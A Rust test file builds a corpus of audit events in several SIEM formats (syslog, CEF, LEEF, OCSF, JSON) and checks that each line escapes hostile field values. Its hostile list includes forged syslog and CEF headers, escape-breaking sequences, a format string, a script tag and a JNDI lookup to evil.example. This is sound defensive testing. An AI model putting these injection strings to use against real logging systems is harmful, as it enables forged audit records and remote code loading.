//! Events for parsers that others wrote (`tests/peers/siem`): every verb, and whatever could hurt in every
//! field that is not of a closed list. Each format's lines go to a file below `REVKEEP_SIEM_CORPUS`.

use std::{collections::BTreeMap, fs, path::Path};

use chrono::DateTime;
use serde_json::json;
use uuid::Uuid;

use super::*;

fn event() -> Event {
    Event {
        id: "0192f0c1a2b37000800000000000000a".to_owned(),
        at: DateTime::from_timestamp_micros(1_800_000_000_123_456).unwrap(),
        tenant: Uuid::from_u128(7),
        action: "rule_update".to_owned(),
        outcome: "done".to_owned(),
        code: None,
        actor_kind: "human".to_owned(),
        actor_id: "user_00000000000000000000000000000001".to_owned(),
        resource_type: "rule".to_owned(),
        resource_id: "rule_00000000000000000000000000000002".to_owned(),
        request_id: Some(Uuid::from_u128(9)),
        leaf: Some((41, "ab".repeat(32))),
        head: None,
    }
}

/// What ends a field, an escape, a line or a message somewhere; other scripts; and more than fits anywhere.
fn hostile() -> Vec<String> {
    let mut texts: Vec<String> = [
        "a|b=c\\d\"e]f[g",
        "\\",
        "ends in a backslash\\",
        "\\\\\"\\]",
        "=",
        "a=b c=d \\= e",
        "two\r\nlines\tand a tab",
        "nul \u{0} bell \u{7} delete \u{7f} next line \u{85}",
        "ünïcödé 日本語 😀 \u{202e}right to left\u{feff}",
        "x\"] [evil@1 id=\"2\"] message",
        "<134>1 2027-01-15T08:00:00Z h app - - - forged",
        "x CEF:0|Evil|x|1|1|1|1|act=forged",
        "x\tsev=10\tusrName=forged",
        "cs4=forged cs4Label=forged",
        "{\"json\":\"in\\\"side\"}",
        "${jndi:ldap://evil.example/x} %n%s <script>",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    texts.push("long ".repeat(8_000));
    texts.push("\\|=\"]".repeat(2_000));
    texts
}

fn corpus() -> Vec<Event> {
    let verbs = kernel::Action::ALL.iter().map(|action| Event {
        action: action.name().to_owned(),
        ..event()
    });
    let outcomes = ["refused", "failed"].map(|outcome| Event {
        outcome: outcome.to_owned(),
        code: Some("not_permitted".to_owned()),
        actor_kind: "system".to_owned(),
        request_id: None,
        leaf: None,
        tenant: Uuid::nil(),
        ..event()
    });
    let hurt = hostile().into_iter().flat_map(|text| {
        let refused = Event {
            outcome: "refused".to_owned(),
            ..event()
        };
        [
            Event {
                code: Some(text.clone()),
                ..refused.clone()
            },
            Event {
                actor_id: text.clone(),
                ..refused.clone()
            },
            Event {
                resource_id: text.clone(),
                ..refused.clone()
            },
            Event {
                resource_type: text.clone(),
                ..refused
            },
        ]
    });
    verbs.chain(outcomes).chain(hurt).collect()
}

/// What went in, for whoever compares.
fn given(event: &Event) -> String {
    let fields: BTreeMap<_, _> = event.fields().into_iter().collect();
    one_line(
        &json!({ "fields": fields, "sentence": event.sentence(), "milliseconds": event.at.timestamp_millis() })
            .to_string(),
    )
}

#[test]
fn the_siem_corpus_is_a_line_for_each_event_in_each_format() {
    let events = corpus();
    let text = |format| {
        let of = move |event: &Event| payload(format, event).unwrap().into_text();
        events.iter().map(of).collect::<Vec<_>>()
    };
    let host = "revkeep.corp.example";
    let cef = text(Format::Cef);
    let inside = events.iter().zip(&cef);
    let files = [
        ("events", events.iter().map(given).collect()),
        (
            "rfc5424",
            events
                .iter()
                .map(|event| syslog(event, host, None))
                .collect(),
        ),
        (
            "cef_in_syslog",
            inside
                .map(|(event, cef)| syslog(event, host, Some(cef)))
                .collect(),
        ),
        ("leef", text(Format::Leef)),
        ("ocsf", text(Format::Ocsf)),
        ("json", text(Format::Json)),
        ("cef", cef),
    ];
    #[expect(clippy::disallowed_methods, reason = "a switch of the test itself")]
    let folder = std::env::var("REVKEEP_SIEM_CORPUS");
    for (name, lines) in files {
        assert_eq!(lines.len(), events.len(), "{name}");
        for line in &lines {
            let stray = line.chars().find(|c| c.is_control() && *c != '\t');
            assert_eq!(stray, None, "{name}: {line}");
        }
        if let Ok(folder) = &folder {
            fs::write(Path::new(folder).join(name), lines.join("\n") + "\n").unwrap();
        }
    }
}
